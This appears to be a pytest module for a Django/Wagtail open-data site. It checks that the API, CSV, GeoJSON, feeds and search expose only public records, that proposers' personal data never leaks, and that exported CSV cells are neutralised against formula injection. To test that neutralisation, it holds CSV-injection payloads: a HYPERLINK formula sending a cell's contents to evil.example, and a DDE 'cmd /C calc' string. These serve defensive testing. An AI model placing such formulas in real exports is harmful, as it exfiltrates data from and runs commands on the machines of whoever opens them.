"""The API, the downloads, the feeds and search publish exactly what the public pages publish:
each entity's public selector decides, and every outlet is compared with it here. Text from a
member of the public (a proposal) reaches none of them; CSV cells never start a formula; the
API's *_html fields are front-end HTML."""

import csv
import io
import json
import re

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from wagtail.fields import RichTextField
from wagtail.images.models import Image
from wagtail.images.tests.utils import get_test_image_file
from wagtail.models import Page

from citypartners.activities.models import Activity, ActivityKind
from citypartners.activities.selectors import activities_for_feed, activities_public
from citypartners.activities.tests.factories import ActivityFactory
from citypartners.opendata import schemas
from citypartners.opendata.imports import import_csv
from citypartners.opendata.tables import COLUMNS, FORMULA_STARTS, csv_cell, csv_text, csv_uncell
from citypartners.organisations.models import Organisation
from citypartners.organisations.selectors import organisations_public
from citypartners.owners.models import Owner
from citypartners.partnerships.models import City, FocusArea, Partnership
from citypartners.partnerships.selectors import cities_public, partnerships_public
from citypartners.projects.models import Project, Proposal
from citypartners.projects.selectors import projects_public
from citypartners.projects.services import proposal_to_project
from citypartners.projects.tests.factories import ProjectFactory

pytestmark = pytest.mark.django_db

ENTITIES = ["cities", "partnerships", "activities", "projects", "organisations"]

# Per entity: its public selector, the key of a record there, in an API answer, in a CSV row.
PUBLIC = {
    "cities": (cities_public, lambda c: c.slug, lambda r: r["slug"], lambda r: r["slug"]),
    "partnerships": (
        partnerships_public,
        lambda p: f"{p.owner.slug}:{p.city.slug}",
        lambda r: f"{r['owner']['slug']}:{r['city']['slug']}",
        lambda r: f"{r['owner']}:{r['city']}",
    ),
    "activities": (activities_public, lambda a: a.slug, lambda r: r["slug"], lambda r: r["slug"]),
    "projects": (projects_public, lambda p: p.slug, lambda r: r["slug"], lambda r: r["slug"]),
    "organisations": (
        organisations_public,
        lambda o: o.slug,
        lambda r: r["slug"],
        lambda r: r["slug"],
    ),
}

SENDER = {
    "name": "Hedwig Privatperson",
    "email": "hedwig.privat@example.org",
    "text": "Meine private Idee mit Telefon 0301234567",
}


@pytest.fixture(autouse=True)
def _no_throttle_memory():
    cache.clear()


@pytest.fixture
def hidden():
    """One record of every kind the public must not see, and a proposal turned into a project."""
    proposal = Proposal.objects.create(consent=True, language="de", **SENDER)
    proposal_to_project(proposal=proposal, user=None)
    return {
        "projects": {
            ProjectFactory(status=Project.Status.PROPOSED).slug,
            ProjectFactory(status=Project.Status.DROPPED).slug,
            Proposal.objects.get().project.slug,
        },
        "activities": {
            ActivityFactory(live=False, title_en="Example: Secretdraft").slug,
            ActivityFactory(is_public=False, title_en="Example: Internalmeeting").slug,
        },
    }


def _api_all(client, entity, lang="en"):
    """Every record of an API list, following the `next` links."""
    response = client.get(f"/api/v1/{entity}/", {"limit": 3, "lang": lang})
    pages = [response]
    while response.json()["next"]:
        response = client.get(response.json()["next"])
        pages.append(response)
    assert all(page.status_code == 200 for page in pages)
    return [row for page in pages for row in page.json()["results"]], pages


def _csv_rows(client, entity):
    response = client.get(f"/opendata/{entity}.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


@pytest.mark.parametrize("entity", ENTITIES)
def test_the_api_and_the_csv_list_exactly_the_public_records(client, hidden, entity):
    selector, key, api_key, csv_key = PUBLIC[entity]
    public = {key(record) for record in selector()}
    assert public, "the small site has public records of every kind"
    assert not public & hidden.get(entity, set())
    api_rows, _pages = _api_all(client, entity)
    assert sorted(api_key(r) for r in api_rows) == sorted(public)
    assert sorted(csv_key(r) for r in _csv_rows(client, entity)) == sorted(public)


def test_hidden_records_have_no_api_record_and_no_public_page(client, hidden):
    for slug in hidden["projects"]:
        assert client.get(f"/api/v1/projects/{slug}/").status_code == 404
        assert client.get(f"/en/projects/{slug}/").status_code == 404
    for slug in hidden["activities"]:
        assert client.get(f"/api/v1/activities/{slug}/").status_code == 404
    assert client.get("/api/v1/projects/", {"status": "proposed"}).status_code == 400


def test_the_geojson_shows_exactly_the_public_cities_and_partnerships(client, hidden):
    data = client.get("/opendata/partner-cities.geojson").json()
    located = {c.slug for c in cities_public() if c.latitude is not None}
    assert {f["id"] for f in data["features"]} == located
    shown = {
        f"{p['owner']}:{f['id']}" for f in data["features"] for p in f["properties"]["partnerships"]
    }
    assert shown == {
        f"{p.owner.slug}:{p.city.slug}"
        for p in partnerships_public()
        if p.city.latitude is not None
    }


def test_the_feeds_show_exactly_the_public_activities(client, hidden):
    public = {a.pk for a in activities_public()}
    in_window = {a.pk for a in activities_for_feed(activities_public())}
    calendar = client.get("/en/feeds/activities.ics").content.decode()
    assert {int(pk) for pk in re.findall(r"UID:activity-(\d+)@", calendar)} == in_window
    atom = client.get("/en/feeds/activities.atom").content.decode()
    hidden_titles = ("Secretdraft", "Internalmeeting")
    assert atom.count("<entry>") == min(len(public), 50)
    assert not any(title in atom or title in calendar for title in hidden_titles)


@pytest.mark.parametrize("query", ["Secretdraft", "Internalmeeting", "Privatperson", "Vorschlag"])
def test_search_finds_no_hidden_record(client, hidden, query):
    text = client.get("/en/search/", {"q": query}).content.decode()
    for slug in hidden["activities"] | hidden["projects"]:
        assert f"/{slug}/" not in text
    assert SENDER["name"] not in text and "Vorschlag Nr." not in text


def test_a_project_from_a_proposal_carries_no_personal_data_even_once_published(client, hidden):
    proposal = Proposal.objects.get()
    project = proposal.project
    # A proposal sent in German: the project starts in German, its English waits.
    assert (project.title_de, project.title_en, project.slug) == (
        f"Vorschlag Nr. {proposal.pk}",
        "",
        f"vorschlag-nr-{proposal.pk}",
    )
    assert project.description_de == project.description_en == ""
    # The editor publishes it without touching the title: still nothing of the sender shows.
    Project.objects.filter(pk=project.pk).update(status=Project.Status.PLANNED)
    bodies = []
    for entity in ENTITIES:
        for lang in ("de", "en"):
            bodies += [page.content.decode() for page in _api_all(client, entity, lang)[1]]
        bodies.append(client.get(f"/opendata/{entity}.csv").content.decode())
    bodies.append(client.get(f"/api/v1/projects/{project.slug}/").content.decode())
    bodies.append(client.get("/opendata/partner-cities.geojson").content.decode())
    for feed in ("/de/feeds/activities.ics", "/en/feeds/activities.atom"):
        bodies.append(client.get(feed).content.decode())
    everything = "\n".join(bodies)
    assert f"Vorschlag Nr. {proposal.pk}" in everything  # the project is there ...
    for value in SENDER.values():  # ... and nothing its sender wrote
        assert value not in everything
    assert "Hedwig" not in everything and "hedwig" not in everything


# --- CSV cells never start a formula ---------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]
RECORD_MODELS = [City, Owner, FocusArea, ActivityKind, Partnership, Activity, Project, Organisation]


def _text_fields(model):
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and f.name not in {"stemmed_text", "timezone", "client_key"}
    ]


CHECKED = (models.SlugField, models.URLField)  # the importer validates these, and:
CHECKED_NAMES = {"country_code", "wikidata_id"}


def _make_every_text_hostile(*, free_text_only=False):
    """Every text field (or only the free text) of every record starts like a formula."""
    for model in RECORD_MODELS:
        fields = [
            f
            for f in _text_fields(model)
            if not free_text_only or not (isinstance(f, CHECKED) or f.name in CHECKED_NAMES)
        ]
        for n, pk in enumerate(model.objects.values_list("pk", flat=True)):
            values = {}
            for i, f in enumerate(fields):
                if isinstance(f, models.SlugField):
                    values[f.name] = f"-evil-{pk}"
                elif isinstance(f, RichTextField):
                    values[f.name] = f"<p>{HOSTILE[(n + i) % 3]}</p>"
                else:
                    hostile = HOSTILE[(n + i) % 3]  # the key first: unique fields stay unique
                    values[f.name] = f"{hostile[0]}{pk}{hostile[1:]}"[: f.max_length or 500]
            model.objects.filter(pk=pk).update(**values)


# The columns holding text a person typed (or a slug, which may start with "-").
TEXT_COLUMNS = {
    "cities": ["slug", "name_de", "name_en", "name_local", "wikidata_id"],
    "partnerships": ["owner", "city", "focus_areas"],
    "activities": [
        "slug",
        "owner",
        "title_de",
        "title_en",
        "kind",
        "place_de",
        "place_en",
        "partnerships",
        "focus_areas",
        "registration_url",
        "description_de",
        "description_en",
    ],
    "projects": [
        "slug",
        "owner",
        "title_de",
        "title_en",
        "partnerships",
        "focus_areas",
        "description_de",
        "description_en",
    ],
    "organisations": [
        "slug",
        "owner",
        "name",
        "city",
        "website",
        "partnerships",
        "focus_areas",
        "description_de",
        "description_en",
    ],
}


@pytest.mark.parametrize("entity", ENTITIES)
def test_no_csv_cell_starts_a_formula_whatever_the_records_hold(client, entity):
    _make_every_text_hostile()
    rows = _csv_rows(client, entity)
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell), (
                column,
                cell,
            )
    for column in TEXT_COLUMNS[entity]:
        assert any(row[column].startswith("'") for row in rows), f"{column} was never hostile"
    assert set(TEXT_COLUMNS[entity]) <= set(COLUMNS[entity])


def test_a_hostile_download_imports_back_unchanged(client):
    # Slugs, codes and addresses starting with "-" or "=" are refused by the importer's own
    # checks; the free text must come back exactly as it was.
    _make_every_text_hostile(free_text_only=True)
    for entity in ("cities", "partnerships", "activities"):
        before = csv_text(entity)
        report = import_csv(entity, before.encode(), dry_run=False)
        assert report.ok, [str(p) for p in report.problems[:5]]
        assert report.created == report.updated == 0 and report.unchanged == report.rows
        assert csv_text(entity) == before


@pytest.mark.parametrize(
    "value",
    ["=1+1", "'=1+1", "''@x", "-12.5", "-x", "\tx", "\rx", "plain", "'quoted", "", "+49 30 1"],
)
def test_csv_uncell_undoes_csv_cell(value):

    assert csv_uncell(csv_cell(value)) == value
    assert not csv_cell(value).startswith(FORMULA_STARTS) or value == "-12.5"


# --- rich text in the API is front-end HTML ----------------------------------------------


def _html_fields():
    """(schema, field) for every *_html field of every record schema of the API."""
    found = []
    for name in dir(schemas):
        schema = getattr(schemas, name)
        if isinstance(schema, type) and issubclass(schema, schemas.Schema):
            found += [(name, f) for f in schema.model_fields if f.endswith("_html")]
    return found


def test_every_api_html_field_is_front_end_html(client):
    target = Page.objects.get(depth=2, locale__language_code="en")  # a home: /de/ or /en/
    image = Image.objects.create(
        title="Example", file=SimpleUploadedFile("x.png", get_test_image_file().file.getvalue())
    )
    stored = (
        f'<p><a linktype="page" id="{target.pk}">Home</a></p>'
        f'<embed embedtype="image" id="{image.pk}" format="fullwidth" alt="Example image"/>'
    )
    for model in (Activity, Project, Organisation):
        rich = [f.name for f in model._meta.concrete_fields if isinstance(f, RichTextField)]
        model.objects.update(**dict.fromkeys(rich, stored))
    fields = _html_fields()
    assert {schema for schema, _f in fields} >= {"Activity", "Project", "Organisation"}
    seen = set()
    bodies = []
    for entity in ENTITIES:
        for lang in ("de", "en"):
            rows, pages = _api_all(client, entity, lang)
            bodies += [page.content.decode() for page in pages]
            for row in rows:
                seen |= {key for key in row if key.endswith("_html")}
                for key in (k for k in row if k.endswith("_html")):
                    assert re.search(r'<a href="/(de|en)/">Home</a>', row[key]), row[key]
                    assert "<img " in row[key] and 'alt="Example image"' in row[key]
            if rows and "slug" in rows[0]:
                detail = client.get(f"/api/v1/{entity}/{rows[0]['slug']}/", {"lang": lang})
                bodies.append(detail.content.decode())
    assert seen == {f for _schema, f in fields}
    everything = "\n".join(bodies)
    assert "linktype" not in everything and "embedtype" not in everything
    assert json.loads(bodies[0])  # the answers are JSON, not error pages
